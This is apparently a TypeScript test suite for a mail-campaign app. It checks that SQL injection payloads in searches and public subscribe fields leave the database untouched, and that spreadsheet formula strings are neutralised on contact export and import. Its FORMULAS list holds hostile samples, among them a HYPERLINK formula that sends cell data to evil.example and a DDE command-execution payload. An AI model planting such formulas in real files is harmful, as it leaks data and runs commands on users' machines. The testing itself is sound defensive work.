import { startApp, type AdminClient, type TestApp } from '../support/app';
import { differences, everyTable } from '../support/every-table';
import { addContacts, makeCampaign, makeInstitution } from '../support/institution';
import { SQL_PAYLOADS } from '../support/payloads';
import { PUBLIC } from '../support/recipient';
import { waitFor } from '../support/wait-for';

/** What somebody writes reaches the database as a value, on each of the three; and a spreadsheet as text. */

let app: TestApp;
let admin: AdminClient;
let listId: number;

beforeAll(async () => {
  app = await startApp({ config: { sending: { tickSeconds: 60 }, subscribe: { perIpPerHour: 10_000 } } });
  admin = await app.admin();
  ({ listId } = await makeInstitution(admin));
  await makeCampaign(admin, listId);
  await addContacts(admin, listId, ['ana@personas.example', 'eva@personas.example']);
});
afterAll(() => app.stop());

const LISTS = ['/contacts', '/lists', '/templates', '/campaigns', '/imports', '/forms', '/reports'];
const query = (path: string, fields: Record<string, string>) =>
  `${path}?${new URLSearchParams(fields).toString()}`;

describe('SQL injection', () => {
  test.each(LISTS)(
    '%s: a search finds what holds these very characters, and nothing breaks',
    async (path) => {
      const before = await everyTable(app.strapi);
      for (const search of SQL_PAYLOADS) {
        const { status, body } = await admin.get(query(path, { search }));
        expect([search, status]).toEqual([search, 200]);
        const found = body.data.length > 0;
        const rows = JSON.stringify(body.data).toLowerCase();
        const written = rows.includes(JSON.stringify(search.toLowerCase()).slice(1, -1));
        expect([search, !found || written]).toEqual([search, true]);
      }
      expect(differences(before, await everyTable(app.strapi))).toEqual([]);
    },
  );

  test('the names of forms and lists in what a visitor sends are values, too', async () => {
    const before = await everyTable(app.strapi);
    for (const value of SQL_PAYLOADS) {
      const slug = encodeURIComponent(value);
      expect((await app.visitor.get(`${PUBLIC}/subscribe/${slug}`)).status).toBe(404);
      expect((await app.visitor.get(`${PUBLIC}/forms/${slug}`)).status).toBe(404);
      expect((await app.visitor.get(query(`${PUBLIC}/subscribe`, { list: value, lang: value }))).status).toBe(
        200,
      );
      const answer = await app.visitor
        .post(`${PUBLIC}/subscribe`)
        .send({ email: `x${value}@y'.example`, lists: [value] });
      expect([value, answer.status]).toEqual([value, 400]);
    }
    expect(differences(before, await everyTable(app.strapi))).toEqual([]);
  });
});

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"clic")',
  "=cmd|'/C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3',
  '+57 301 555 0000',
  '\t=1+1',
  '＝1+1',
  "'=1+1",
  "''-1",
  "d'Ors",
  '"; =1+1; "',
  'a\n=1+1',
];

describe('formulas', () => {
  const exported = async (): Promise<string> => {
    const { text } = await admin.get(query('/contacts/export', { search: 'formulas.example' })).expect(200);
    return text;
  };
  const upload = async (content: string): Promise<void> => {
    const { body } = await app.visitor
      .post('/mail-campaigns/imports')
      .set('Authorization', `Bearer ${admin.token}`)
      .attach('file', Buffer.from(content), 'contactos.csv')
      .expect(201);
    const { id, columns } = body.data;
    const targets = columns.map(({ target }: { target: string }) => target);
    await admin
      .post(`/imports/${id}/start`, { targets, listIds: [], updateExisting: true, consentNote: '' })
      .expect(202);
    await waitFor('the import to end', async () => {
      const { status } = (await admin.get(`/imports/${id}`)).body.data;
      return ['done', 'failed'].includes(status);
    });
  };
  const contacts = async () =>
    (
      await admin.get(query('/contacts', { search: 'formulas.example', sort: 'email:asc', pageSize: '100' }))
    ).body.data.map(({ email, firstName, lastName, attributes }: any) => ({
      email,
      firstName,
      lastName,
      attributes,
    }));

  test('are text in an export, and export, import, export gives the same file and the same contacts', async () => {
    for (const [index, formula] of FORMULAS.entries()) {
      await admin
        .post('/contacts', {
          email: `f${String(index).padStart(2, '0')}@formulas.example`,
          firstName: formula,
          lastName: formula,
          attributes: { nota: formula, saldo: -5, activo: true },
        })
        .expect(201);
    }
    const [file, people] = [await exported(), await contacts()];
    for (const cell of file.matchAll(/"((?:[^"]|"")*)"/g)) expect(cell[1]).not.toMatch(/^\s*[=+\-@＝]/);
    expect(people).toHaveLength(FORMULAS.length);

    await upload(file);
    expect(await contacts()).toEqual(people);
    expect(await exported()).toBe(file);

    const ids = (
      await admin.get(query('/contacts', { search: 'formulas.example', pageSize: '100' }))
    ).body.data.map(({ id }: { id: number }) => id);
    await admin.post('/contacts/bulk', { action: 'delete', ids }).expect(200);
    await upload(file);
    const again = await contacts();
    expect(again.map(({ firstName }: any) => firstName)).toEqual(
      people.map(({ firstName }: any) => firstName),
    );
    expect(again.map(({ attributes }: any) => attributes.nota)).toEqual(
      people.map(({ attributes }: any) => attributes.nota),
    );
  });
});
